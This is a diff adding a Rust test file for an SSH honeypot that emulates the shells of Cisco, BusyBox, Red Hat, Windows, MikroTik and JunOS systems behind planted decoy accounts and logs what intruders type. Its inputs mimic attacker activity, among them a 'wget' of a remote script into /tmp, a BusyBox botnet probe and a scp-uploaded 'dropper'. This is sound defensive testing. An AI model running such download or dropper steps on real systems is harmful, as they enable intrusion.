@@ -1,0 +1,235 @@
+//! What whoever logs in by a planted account meets, seen by the real ssh(1) and scp(1): the command line or the shell
+//! that the product has, and an observation of every line.
+
+mod products;
+mod server;
+
+use std::{
+    fs,
+    io::Write,
+    path::Path,
+    process::{Command, Output, Stdio},
+    sync::Arc,
+};
+
+use chaff_events::Detail;
+use chaff_services::{Account, ServiceKind, ServiceSpec};
+use server::Server;
+use sha2::{Digest, Sha256};
+
+const USER: &str = "backup";
+const SECRET: &str = "Winter2019!";
+/// What any of the products needs of a client of today.
+const OPTIONS: [&str; 9] = [
+    "UserKnownHostsFile=/dev/null",
+    "StrictHostKeyChecking=no",
+    "PubkeyAuthentication=no",
+    "NumberOfPasswordPrompts=1",
+    "LogLevel=ERROR",
+    "IdentityAgent=none",
+    "KexAlgorithms=+diffie-hellman-group1-sha1,diffie-hellman-group14-sha1",
+    "HostKeyAlgorithms=+ssh-rsa",
+    "Ciphers=+aes128-cbc",
+];
+
+/// A product with a planted account, and a program that tells its password.
+struct Door {
+    server: Server,
+    folder: tempfile::TempDir,
+}
+
+impl Door {
+    fn of(product: &str) -> Self {
+        Self::of_user(product, USER)
+    }
+
+    fn of_user(product: &str, user: &str) -> Self {
+        let mut spec = products::product(product);
+        (spec.password_delay_ms, spec.refusal_delay_ms) = ((5, 10), (1, 2));
+        let accounts = [Account { user: user.into(), password: SECRET.into() }];
+        let server = Server::with(ServiceSpec::new(product, ServiceKind::Ssh(Arc::new(spec))), &accounts);
+        let folder = tempfile::tempdir().unwrap();
+        let asked = folder.path().join("askpass");
+        fs::write(&asked, format!("#!/bin/sh\necho '{SECRET}'\n")).unwrap();
+        fs::set_permissions(&asked, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
+        Self { server, folder }
+    }
+
+    fn program(&self, name: &str, port: &str) -> Command {
+        let mut command = Command::new("timeout");
+        command.args(["60", name, "-F", "/dev/null", port, &self.server.port.to_string()]);
+        for option in OPTIONS {
+            command.args(["-o", option]);
+        }
+        command.env("SSH_ASKPASS", self.folder.path().join("askpass")).env("SSH_ASKPASS_REQUIRE", "force");
+        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
+        command
+    }
+
+    /// One command, as `ssh host command` sends it.
+    fn exec(&self, user: &str, line: &str) -> (String, String, Option<i32>) {
+        let output = self.program("ssh", "-p").args(["-l", user, "127.0.0.1", line]).output().unwrap();
+        (text(&output.stdout), text(&output.stderr), output.status.code())
+    }
+
+    /// What the terminal shows of a session in which this is typed.
+    fn session(&self, user: &str, typed: &str) -> (String, Option<i32>) {
+        let mut child =
+            self.program("ssh", "-p").args(["-tt", "-l", user, "127.0.0.1"]).stdin(Stdio::piped()).spawn().unwrap();
+        child.stdin.as_mut().unwrap().write_all(typed.as_bytes()).unwrap();
+        let output: Output = child.wait_with_output().unwrap();
+        (text(&output.stdout), output.status.code())
+    }
+
+    /// Every line that was observed.
+    fn lines(&self) -> Vec<String> {
+        let facts = self.server.facts().into_iter();
+        facts
+            .filter_map(
+                |(_, _, detail)| if let Detail::Command { line, .. } = detail { Some(text(&line)) } else { None },
+            )
+            .collect()
+    }
+
+    fn files(&self) -> Vec<[u8; 32]> {
+        let facts = self.server.facts().into_iter();
+        facts
+            .filter_map(|(_, _, detail)| if let Detail::File { sha256, .. } = detail { Some(sha256) } else { None })
+            .collect()
+    }
+}
+
+fn text(octets: &[u8]) -> String {
+    String::from_utf8_lossy(octets).into_owned()
+}
+
+#[test]
+fn a_switch_has_the_command_line_of_ios() {
+    let door = Door::of("cisco-ssh-1.25");
+    let typed =
+        "show foo\nsh ver\n qenable\nwrong\nWinter2019!\nterminal length 0\nshow run | include hostname\nexit\n";
+    let (shown, status) = door.session(USER, typed);
+    assert_eq!(status, Some(0), "{shown}");
+    assert!(shown.starts_with("\r\n"), "{shown:?}");
+    let name = shown.trim_start().split('>').next().unwrap();
+    let caret = " ".repeat(format!("{name}>show ").len());
+    assert!(
+        shown.contains(&format!(
+            "{name}>show foo\r\n{caret}^\r\n% Invalid input detected at '^' marker.\r\n\r\n{name}>"
+        )),
+        "{shown}"
+    );
+    assert!(shown.contains("Cisco IOS Software, C2960 Software") && shown.contains(" --More-- "), "{shown}");
+    assert!(
+        shown.contains(&format!("{name}>enable\r\nPassword: \r\nPassword: \r\n{name}#terminal length 0\r\n")),
+        "{shown}"
+    );
+    assert!(
+        shown.ends_with(&format!("{name}#show run | include hostname\r\nhostname {name}\r\n{name}#exit\r\n")),
+        "{shown}"
+    );
+    assert!(!shown.contains(SECRET));
+    assert_eq!(
+        door.lines(),
+        ["show foo", "sh ver", "enable", "wrong", SECRET, "terminal length 0", "show run | include hostname", "exit"]
+    );
+    let (said, _, status) = door.exec(USER, "show privilege");
+    assert_eq!((said.as_str(), status), ("Current privilege level is 1\n", Some(0)));
+    let (shown, _) = door.session(USER, "show c?lock\nexit\n");
+    assert!(shown.contains("show c?\r\ncdp  clock\r\n\r\n") && shown.contains(" UTC "), "{shown}");
+}
+
+#[test]
+fn a_device_has_the_shell_of_busybox() {
+    let door = Door::of_user("dropbear-2022.83", "root");
+    let (shown, status) = door.session("root", "foo; uname -m\ncd /tmp && wget http://192.0.2.1/x.sh\nexit 3\n");
+    assert_eq!(status, Some(3), "{shown}");
+    assert!(shown.contains(" built-in shell (ash)\r\n") && shown.contains("~ # foo; uname -m\r\n"), "{shown}");
+    assert!(shown.contains("-sh: foo: not found\r\narmv7l\r\n~ # "), "{shown}");
+    assert!(shown.contains("can't connect to remote host (192.0.2.1): Network is unreachable\r\n/tmp # exit 3\r\n"));
+    let (said, errors, status) = door.exec("root", "/bin/busybox ECCHI");
+    assert_eq!((said.as_str(), errors.as_str(), status), ("", "ECCHI: applet not found\n", Some(127)));
+    assert_eq!(door.lines().len(), 4, "{:?}", door.lines());
+    uploads(&door, "root", "/tmp/x");
+}
+
+/// A file that is sent is known by its hash.
+fn uploads(door: &Door, user: &str, target: &str) {
+    let file: &Path = &door.folder.path().join("dropper");
+    fs::write(file, b"#!/bin/sh\necho owned\n").unwrap();
+    let to = format!("{user}@127.0.0.1:{target}");
+    for how in ["-O", "-s"] {
+        let output = door.program("scp", "-P").arg(how).arg(file).arg(&to).output().unwrap();
+        assert!(output.status.success(), "scp {how}: {output:?}");
+    }
+    let hash: [u8; 32] = Sha256::digest(b"#!/bin/sh\necho owned\n").into();
+    assert_eq!(door.files(), [hash, hash]);
+}
+
+#[test]
+fn red_hat_has_a_bash_of_its_own() {
+    let door = Door::of("openssh-8.7-rhel9");
+    let (shown, status) = door.session(USER, "cd /etc\ncat redhat-release; uname -r\nexit\n");
+    assert_eq!(status, Some(0), "{shown}");
+    assert!(
+        shown.contains("[backup@") && shown.contains(" ~]$ cd /etc\r\n") && shown.contains(" etc]$ cat"),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("Red Hat Enterprise Linux release 9.3 (Plow)\r\n5.14.0-362.24.1.el9_3.x86_64\r\n"),
+        "{shown}"
+    );
+    assert!(!shown.contains("Debian"));
+}
+
+#[test]
+fn windows_has_a_command_prompt() {
+    let door = Door::of("openssh-8.1-windows");
+    let (shown, status) = door.session(USER, "foo bar\nWHOAMI\nexit\n");
+    assert_eq!(status, Some(0), "{shown}");
+    assert!(shown.starts_with("Microsoft Windows [Version 10.0.19045.2965]\r\n"), "{shown:?}");
+    let foo = "'foo' is not recognized as an internal or external command,\r\noperable program or batch file.\r\n\r\n";
+    assert!(shown.contains(&format!("\\backup>foo bar\r\n{foo}backup@")), "{shown}");
+    assert!(shown.contains(">WHOAMI\r\n") && shown.contains("\\backup\r\n\r\nbackup@"), "{shown}");
+}
+
+#[test]
+fn routers_have_their_command_lines() {
+    let door = Door::of("mikrotik-routeros-ssh");
+    let (shown, _) = door.session(USER, "foo\n/ip address\nprint\n/\n/system identity print\nquit\n");
+    assert!(shown.contains("bad command name foo (line 1 column 1)\r\n"), "{shown}");
+    assert!(shown.contains("] /ip address> print\r\nFlags: X - disabled,") && shown.contains("/24 "), "{shown}");
+    assert!(shown.contains("] /ip address> /\r\n[backup@") && shown.contains("  name: "), "{shown}");
+    let door = Door::of("cisco-asa-ssh");
+    let (shown, _) = door.session(USER, "show foo\nen\nWinter2019!\nterminal pager 0\nshow run\nexit\n");
+    assert!(shown.starts_with("Type help or '?' for a list of available commands.\r\n"), "{shown:?}");
+    assert!(
+        shown.contains("^\r\nERROR: % Invalid input detected at '^' marker.\r\n") && shown.contains(": end\r\n"),
+        "{shown}"
+    );
+    let door = Door::of("openssh-7.4-junos18");
+    let (shown, _) = door.session(USER, "show version\nfoo\nexit\n");
+    assert!(shown.starts_with("--- JUNOS 18.4R2-S3 Kernel") && shown.contains("Model: ex2300-24t\r\n"), "{shown:?}");
+    assert!(shown.contains("^\r\nunknown command.\r\n"), "{shown}");
+}
+
+/// Where there is no command line to show, the account is one without a shell.
+#[test]
+fn an_account_may_be_closed() {
+    let door = Door::of("openssh-7.5-freebsd11");
+    let closed = "This account is currently not available.";
+    assert_eq!(door.session(USER, "id\n"), (format!("{closed}\r\n"), Some(1)));
+    let (said, _, status) = door.exec(USER, "id");
+    assert_eq!((said, status), (format!("{closed}\n"), Some(1)));
+    assert_eq!(door.lines(), ["id"]);
+    let door = Door::of("openssh-7.5-solaris11.4");
+    assert_eq!(door.session(USER, ""), (String::new(), Some(1)));
+}
+
+/// Nobody is refused a session once he is in.
+#[test]
+fn every_product_has_something_inside() {
+    for (name, spec) in products::products() {
+        assert!(spec.shell.is_some() || spec.console.is_some(), "{name}");
+    }
+}
